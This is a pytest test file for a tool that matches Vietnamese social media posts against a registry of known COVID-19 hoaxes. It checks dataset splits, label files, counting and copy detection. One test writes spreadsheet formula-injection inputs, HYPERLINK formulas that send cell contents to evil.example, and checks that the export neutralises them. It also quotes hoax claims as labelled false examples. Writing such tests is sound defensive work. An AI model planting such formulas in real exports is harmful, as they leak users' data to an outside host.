"""Real ReINTEL posts labelled with the claims they carry (``nlp.claims_real``): the draw, the
label files and the counting. The figures themselves are in docs/nlp.md."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from nlp import claims_real
from nlp.claims import load_claims
from nlp.claims_real import (
    LABEL_DIR,
    SETS,
    Label,
    RealPost,
    agreement,
    committed_posts,
    draw,
    figures,
    load_labels,
)
from nlp.groups import dup_key
from tinradar.settings import Settings
from tinradar.text import fold

HEADER = "id\tclaims\tother\ttopic\tunsure\n"


@pytest.fixture(scope="module")
def claim_ids() -> set[str]:
    return {c.id for c in load_claims(Settings().claims_file)}


@pytest.fixture(scope="module")
def sets(shared_dir: Path) -> dict[str, list[RealPost]]:
    return {name: committed_posts(name, shared_dir / "datasets") for name in SETS}


def _file_ids(name: str) -> list[str]:
    with (LABEL_DIR / f"{name}.tsv").open(encoding="utf-8", newline="") as fh:
        return [row["id"] for row in csv.DictReader(fh, delimiter="\t")]


def test_the_sets_keep_repost_groups_on_one_side(sets: dict[str, list[RealPost]]) -> None:
    """Checked on the committed sets, not on a redraw: no vocabulary enters it."""
    groups = {name: {dup_key(p.text) for p in sets[name]} for name in SETS}
    for i, first in enumerate(SETS):
        for second in SETS[i + 1 :]:
            assert not groups[first] & groups[second], f"{first} and {second} share a group"
    for name, posts in sets.items():
        assert len({dup_key(p.text) for p in posts}) == len(posts), f"{name}: two posts of one group"
        if name in claims_real.UNLABELLED_SETS:  # ReINTEL's unlabelled test posts
            size = claims_real.UNLABELLED_SETS[name]
            assert len(posts) == (size or 748) and all(p.unreliable is None for p in posts)
            continue
        reliable = sum(p.unreliable is False for p in posts)
        assert reliable == claims_real.RELIABLE_PER_SET[name]
        assert sum(p.unreliable is True for p in posts) >= 100
        assert all(claims_real.even_id(p.id) == (name == "dev") for p in posts)


@pytest.mark.parametrize("name", SETS)
def test_a_set_is_its_label_files_ids_in_order(name: str, sets: dict[str, list[RealPost]], claim_ids: set[str]) -> None:
    ids = _file_ids(name)
    assert [p.id for p in sets[name]] == ids and len(set(ids)) == len(ids)
    assert list(load_labels(name, claim_ids)) == ids  # every post labelled once, nothing else
    # the file holds ids and labels only: no column could carry a post's text
    header = (LABEL_DIR / f"{name}.tsv").read_text(encoding="utf-8").splitlines()[0]
    assert header.split("\t") == ["id", "claims", "other", "topic", "unsure"]


def test_the_sets_do_not_follow_the_covid_vocabulary(
    shared_dir: Path, sets: dict[str, list[RealPost]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A held-out set is the posts that were labelled: another relevance function (here one that
    keeps only posts whose folded text has an even length, where the draw reads it) changes the
    draw but neither the sets nor the inputs of their figures (ids, texts, ReINTEL labels)."""
    before = {name: [(p.id, p.text, p.unreliable) for p in posts] for name, posts in sets.items()}
    redrawn_before = {p.id for p in draw(shared_dir / "datasets")["dev"]}
    monkeypatch.setattr(claims_real, "covid_probability", lambda folded: float(len(folded) % 2 == 0))
    redrawn = {p.id for p in draw(shared_dir / "datasets")["dev"]}
    assert redrawn != redrawn_before  # the patch reaches the draw: this test can fail
    after = {
        name: [(p.id, p.text, p.unreliable) for p in committed_posts(name, shared_dir / "datasets")] for name in SETS
    }
    assert after == before


def test_an_id_missing_from_reintel_is_named(tmp_path: Path, shared_dir: Path) -> None:
    (tmp_path / "dev.tsv").write_text(HEADER + "1040\t\t0\t\t0\nno-such-id\t\t0\t\t0\n", encoding="utf-8")
    with pytest.raises(SystemExit, match=r"dev.tsv, row 3: id 'no-such-id' is not a ReINTEL post"):
        committed_posts("dev", shared_dir / "datasets", tmp_path)


def test_a_bad_label_row_is_named(tmp_path: Path, claim_ids: set[str]) -> None:
    (tmp_path / "dev.tsv").write_text(HEADER + "1\t\t0\t\t0\n2\tno-such-claim:repeats\t0\t\t0\n", encoding="utf-8")
    with pytest.raises(SystemExit, match=r"dev\.tsv, row 3: 'no-such-claim:repeats'"):
        load_labels("dev", claim_ids, tmp_path)
    claim = sorted(claim_ids)[0]
    (tmp_path / "dev.tsv").write_text(HEADER + f"1\t{claim}:believes\t0\t\t0\n", encoding="utf-8")
    with pytest.raises(SystemExit, match="row 2"):
        load_labels("dev", claim_ids, tmp_path)
    (tmp_path / "dev.tsv").write_text(HEADER + "1\t\t0\t\t0\n1\t\t0\t\t0\n", encoding="utf-8")
    with pytest.raises(SystemExit, match="labelled twice"):
        load_labels("dev", claim_ids, tmp_path)


def test_counts_against_the_labels() -> None:
    posts = [RealPost(str(i), "", unreliable=i < 4) for i in range(7)]
    labels = {
        "0": Label({"a": "repeats"}),  # found, as repeated, first
        "1": Label({"a": "repeats", "b": "repeats"}),  # only an unlabelled claim matched
        "2": Label({"a": "repeats"}, unsure=True),  # missed
        "3": Label({"b": "refutes"}),  # found, but read as repeated
        "4": Label(),  # a false match
        "5": Label(other=True),  # nothing matched; a claim the registry lacks
        "6": Label(),  # nothing matched
    }
    seen = [[("a", "repeats")], [("c", "repeats")], [], [("b", "repeats")], [("a", "asks")], [], []]
    figs = figures(posts, labels, seen)
    rep = figs["all: posts repeating a registry claim"]
    assert rep == {
        "posts": 3,
        "their claim found": 1,
        "their claim found as repeated": 1,
        "found first": 1,
        "only other claims matched": 1,
    }
    assert figs["sure: posts repeating a registry claim"]["posts"] == 2  # the unsure row is left out
    ref = figs["all: posts refuting or asking about a registry claim (none repeated)"]
    assert ref == {"posts": 1, "their claim found": 1, "a claim read as repeated": 1}
    none = figs["all: posts with no registry claim, ReINTEL reliable"]
    assert none["posts"] == 3 and none["a claim matched (false match)"] == 1 and none["a claim read as repeated"] == 0
    assert none["spreading a false claim the registry lacks"] == 1
    matched = figs["all: posts the analyzer matched"]
    assert matched["posts"] == 4 and matched["best match is a labelled claim (precision)"] == 2
    assert figs["coverage: ReINTEL unreliable posts"] == {
        "posts": 4,
        "repeating a registry claim": 3,
        "a false claim the registry lacks": 0,
    }


def test_dump_refuses_to_write_into_the_repository(shared_dir: Path) -> None:
    with pytest.raises(SystemExit, match="inside the repository"):
        claims_real.dump("dev", LABEL_DIR / "posts.tsv", shared_dir / "datasets")


def test_agreement_between_two_labellings() -> None:
    first = {"1": Label({"a": "repeats"}), "2": Label({"b": "repeats"}), "3": Label(), "4": Label(other=True)}
    second = {"1": Label({"a": "repeats"}), "2": Label({"c": "repeats"}), "3": Label({"z": "repeats"}), "4": Label()}
    out = agreement(first, second, among={"a", "b", "c"})  # "z" was added after the second labelling
    assert out["repeating a claim: first"] == out["repeating a claim: second"] == out["repeating a claim: both"] == 2
    assert out["repeating a claim: kappa"] == 1.0
    assert (out["claim pairs: first"], out["claim pairs: second"], out["claim pairs: both"]) == (2, 2, 1)
    assert out["other: kappa"] == 0.0


def test_qa_counts_by_the_best_matchs_stance(shared_dir: Path) -> None:
    seen = [[], [("a", "repeats"), ("b", "asks")], [("b", "asks")], [("c", "refutes")], []]
    assert claims_real.qa_figures(seen) == {
        "texts": 5,
        "matched": 3,
        "best match read as repeats": 1,
        "best match read as refutes": 1,
        "best match read as asks": 1,
    }
    texts = claims_real.qa_texts("test", shared_dir / "datasets")
    assert len(texts["questions"]) == len(texts["answers"]) == 500


#: Registry texts share a copied passage with a post when they have this many folded words in a
#: row in common (the registry's variants are written in our own words: ReINTEL is not ours to copy).
_COPIED_RUN = 6
#: Registry texts written before the real sets were drawn that share a stock phrase of six words
#: with some real post ("virus corona là vũ khí sinh học", "nín thở 10 giây mà không ho"): three
#: claims and six early variants, none written after reading a post. Every text
#: added since (the real-wording variants of 2026-12-04 and after) must share none.
_EARLIER_STOCK_PHRASES = frozenset(
    {
        ("cure-garlic-saltwater", "Súc miệng bằng nước muối ấm giết chết virus COVID-19 trong cổ họng"),
        ("hot-weather-kills-virus", "Virus corona chết ở nhiệt độ 26-27 độ, phơi nắng là khỏi"),
        ("hold-breath-self-test", "Nín thở được 10 giây mà không ho, không khó chịu nghĩa là không nhiễm COVID-19."),
        ("hold-breath-self-test", "Cách tự kiểm tra xem mình có nhiễm COVID không, lời khuyên của bác sĩ Nhật Bản"),
        ("bioweapon-origin", "Virus corona là vũ khí sinh học được tạo ra và cố ý phát tán."),
        ("bioweapon-origin", "COVID-19 là vũ khí sinh học do phòng thí nghiệm chế tạo để tấn công"),
        ("only-elderly-at-risk", "Chỉ người già mới mắc và tử vong vì COVID-19, người trẻ không cần phòng dịch."),
        (
            "fines-for-leaving-home",
            "Ra đường khi giãn cách sẽ bị phạt 20 triệu đồng, bị bắt đi cách ly tập trung ngay.",
        ),
        ("bodies-dumped-hoax", "Bệnh viện giấu hàng trăm ca tử vong vì COVID-19 và đem thi thể đi chôn lén ban đêm."),
    }
)


def _runs(text: str) -> set[tuple[str, ...]]:
    """Every run of ``_COPIED_RUN`` folded words of a text."""
    words = re.findall(r"\w+", fold(text))
    return {tuple(words[k : k + _COPIED_RUN]) for k in range(len(words) - _COPIED_RUN + 1)}


def test_no_registry_variant_copies_a_real_post(sets: dict[str, list[RealPost]]) -> None:
    """No variant of the registry shares a run of six folded words with any drawn real post (every
    set: the labellers and the matcher read the same registry; a variant copied from a post would
    find that post by copy, not by the hoax). Only claim ids and registry texts are reported."""
    copied = {run for posts in sets.values() for post in posts for run in _runs(post.text)}
    shared = [
        (claim.id, text)
        for claim in load_claims(Settings().claims_file)
        for text in [claim.claim, *claim.variants]
        if (claim.id, text) not in _EARLIER_STOCK_PHRASES and _runs(text) & copied
    ]
    assert not shared


def test_the_copy_check_can_fail(sets: dict[str, list[RealPost]]) -> None:
    """A variant holding six words of a post in a row is seen (a test that cannot fail is a defect)."""
    post = next(p.text for p in sets["dev"] if len(re.findall(r"\w+", p.text)) > 12)
    words = re.findall(r"\w+", post)
    seen = bool(_runs("Nghe nói " + " ".join(words[3:9]) + " nhé") & _runs(post))
    assert seen  # a bare flag: a failure must not print the post


def test_dump_writes_formula_cells_as_text(tmp_path: Path) -> None:
    """The labellers open the dump in a spreadsheet: a post that starts like a formula is text there."""
    starts = ["=", "+", "-", "@"]  # the reader strips the ends: no tab or CR first
    ids = [str(n) for n in range(200) if claims_real.even_id(str(n))][: len(starts) + 1]
    texts = [
        f'{s}HYPERLINK("https://evil.example/?"&A{n},"Covid-19: tiêm vắc xin ngừa virus corona")'
        for n, s in enumerate(starts)
    ]
    texts.append("Bộ Y tế: tiêm vắc xin Covid-19 an toàn, virus corona không lây qua sóng 5G")
    reintel = tmp_path / "datasets" / "reintel"
    reintel.mkdir(parents=True)
    with (reintel / "train.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "post_message", "label"])
        writer.writerows([i, t, "1"] for i, t in zip(ids, texts, strict=True))
    (reintel / "unlabeled.csv").write_text("id,post_message\n", encoding="utf-8")
    (tmp_path / "dev.tsv").write_text("id\n" + "".join(f"{i}\n" for i in ids), encoding="utf-8")  # the set's ids
    out = tmp_path / "dump.tsv"
    assert claims_real.dump("dev", out, tmp_path / "datasets", tmp_path) == len(texts)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter="\t"))
    shown = {row["id"]: row["text"] for row in rows}
    for post_id, text in zip(ids, texts, strict=True):
        assert shown[post_id] == (text if text[0].isalpha() else "'" + text), shown[post_id]
